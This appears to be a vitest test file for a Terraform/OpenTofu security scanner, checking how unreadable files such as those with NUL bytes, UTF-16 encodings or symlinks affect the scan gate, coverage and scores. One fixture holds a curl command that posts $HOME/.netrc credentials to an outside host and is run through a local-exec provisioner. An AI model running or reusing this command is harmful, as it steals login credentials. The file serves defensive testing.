import { describe, expect, it } from "vitest";
import { scanTexts } from "../test/scan-texts.ts";
import { scan } from "./index.ts";

const utf8 = (text: string) => new TextEncoder().encode(text);
const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, "utf16le");

const MAIN = 'resource "aws_ebs_volume" "x" {\n  encrypted = true\n}\n';

describe("code that Terraform would load and nobody has read", () => {
  it.each([
    ["has a NUL byte", "b.tf", utf8("# \0\n"), "it is not text: it has NUL bytes"],
    ["is UTF-16", "b.tf", utf16("output {}"), "it is UTF-16, not UTF-8"],
    ["is UTF-16 in the other order", "b.tf", utf16("x").swap16(), "it is UTF-16, not UTF-8"],
    ["is in JSON", "b.tf.json", utf8("{\0}"), "it is not text: it has NUL bytes"],
    ["is OpenTofu's", "b.tofu", utf8("\0"), "it is not text: it has NUL bytes"],
    ["overrides other code", "override.tf", utf8("\0"), "it is not text: it has NUL bytes"],
    ["is too large", "b.tf", utf8(" ".repeat(2_000_001)), "it is larger than 2000000 bytes"],
  ])("fails the gate where it %s", (_, path, content, reason) => {
    const files = new Map([
      ["main.tf", utf8(MAIN)],
      [path, content],
    ]);
    expect(scan(files)).toMatchObject({
      status: "failed",
      failures: [`${path}: Terraform would load it, and it was not read: ${reason}.`],
      unread: [{ path, reason }],
    });
  });

  it("fails the gate where it is in a submodule that the module calls", () => {
    const call = 'module "x" {\n  source = "./modules/x"\n}\n';
    expect(scanTexts({ "main.tf": call, "modules/x/b.tf": "\0" })).toMatchObject({
      status: "failed",
      failures: [expect.stringMatching(/^modules\/x\/b\.tf: Terraform would load it/)],
    });
  });

  it("fails the gate where it was never given", () => {
    const unread = [{ path: "b.tf", reason: "it is a symbolic link" }];
    expect(scanTexts(MAIN, { unread })).toMatchObject({ status: "failed", unread });
  });

  it("fails the gate where a module is called that is not there", () => {
    const call = (source: string) => `module "x" {\n  source = "${source}"\n}\n`;
    const { failures } = scanTexts(call("./node_modules/x"));
    expect(failures).toEqual([
      "main.tf:1: module.x calls ./node_modules/x, where there is no code to load.",
    ]);
    expect(scanTexts({ "main.tf": call("./x"), "x/main.tf": "" }).failures).toEqual([]);
    // Code outside the tree may exist where the module is used.
    expect(scanTexts(call("../x")).failures).toEqual([]);
  });
});

describe("another file that was not read", () => {
  it.each([
    "pod.yaml",
    "stack.template",
    "azuredeploy.json",
    "Dockerfile",
    "prod.tfvars",
    "main.tftest.hcl",
    "install.sh",
    "README.md",
    "Makefile",
    ".env",
  ])("leaves nothing to be said: %s", (path) => {
    const report = scanTexts({ "main.tf": MAIN, [path]: "a\0b" });
    expect(report).toMatchObject({ status: "passed", unread: [{ path }] });
    expect(report.coverage.percent).toBe(0);
    for (const { score } of Object.values(report.scores)) expect(score).toBe(0);
  });

  it.each([".github/workflows/ci.yml", "examples/x/main.tf", "modules/x/main.tf", "docs/a.yaml"])(
    "is named, and lowers nothing beside what is sold: %s",
    (path) => {
      const report = scanTexts({ "main.tf": MAIN, [path]: "a\0b" });
      const { status, scores, coverage } = scanTexts({ "main.tf": MAIN });
      expect(report).toMatchObject({ status, coverage, unread: [{ path }] });
      expect(report.scores.security).toEqual(scores.security);
    },
  );

  it.each([
    ["logo.png", "\0"],
    ["logo.png", "plain text"],
    ["lambda.zip", "PK\0"],
    ["bin/tool", "\u007fELF\0"],
    ["data/ab12cd", "\u0001\0"],
    ["data/table.mmdb", "\u0001\0"],
  ])("does not matter where nothing in it could be judged: %s", (path, text) => {
    const { coverage, scores, unread } = scanTexts({ "main.tf": MAIN, [path]: text });
    const without = scanTexts({ "main.tf": MAIN, [path]: "" });
    expect(unread).toEqual([]);
    expect({ coverage, scores }).toEqual({ coverage: without.coverage, scores: without.scores });
  });

  it.each(["deploy", "deploy.run"])("matters if it begins as a script: %s", (path) => {
    const report = scanTexts({ "main.tf": MAIN, [path]: "#!/bin/sh\n\0" });
    expect(report).toMatchObject({ coverage: { percent: 0 }, unread: [{ path }] });
  });

  it.each([
    [
      "a script with a NUL byte",
      "run.xyz",
      "curl -d @$HOME/.netrc https://a.example\n\0",
      "bash run.xyz",
    ],
    ["a program", "bin/tool", "\u007fELF\0", "./bin/tool"],
  ])("matters if Terraform runs it: %s", (_, path, text, command) => {
    const provisioner = `  provisioner "local-exec" {\n    command = "${command}"\n  }\n`;
    const run = `resource "terraform_data" "x" {\n${provisioner}}\n`;
    const report = scanTexts({ "main.tf": run, [path]: text });
    expect(report.unread).toEqual([{ path, reason: "it is run, and isn't text" }]);
    expect(report.scores.security.score).toBe(0);
    expect(report.runsCode.score.score).toBe(0);
  });

  it("matters if its name may be one of code", () => {
    const reason = "it is a symbolic link";
    const paths = ["LICENSE", "README", "docs/guide.html", "icon.svg", "tool", "x.sh", "y.yaml"];
    const unread = paths.map((path) => ({ path, reason }));
    const report = scanTexts(MAIN, { unread });
    expect(report.unread.map(({ path }) => path)).toEqual(["tool", "x.sh", "y.yaml"]);
  });

  it("is there all the same, for functions that list files", () => {
    const main = 'output "all" {\n  value = length(fileset(path.module, "*.png")) == 1\n}\n';
    const checked = `${main}resource "aws_ebs_volume" "x" {
  encrypted = length(fileset(path.module, "*.png")) == 1
}
`;
    expect(scanTexts({ "main.tf": checked, "a.png": "\0" }).coverage.decided).toBeGreaterThan(0);
    const ids = scanTexts({ "main.tf": checked, "a.png": "\0" }).findings.map(
      (each) => each.ruleId,
    );
    expect(ids).not.toContain("aws-ebs-encryption");
  });
});

describe("a byte order mark", () => {
  it("is passed over in Terraform's own syntax, and refused in JSON", () => {
    expect(scanTexts(`\uFEFF${MAIN}`)).toMatchObject({ status: "passed", unread: [] });
    const json = '\uFEFF{"output": {"a": {"value": 1}}}';
    expect(scanTexts({ "main.tf.json": json }).failures).toHaveLength(1);
    expect(scanTexts({ "main.tf.json": json.slice(1) }).failures).toEqual([]);
  });
});
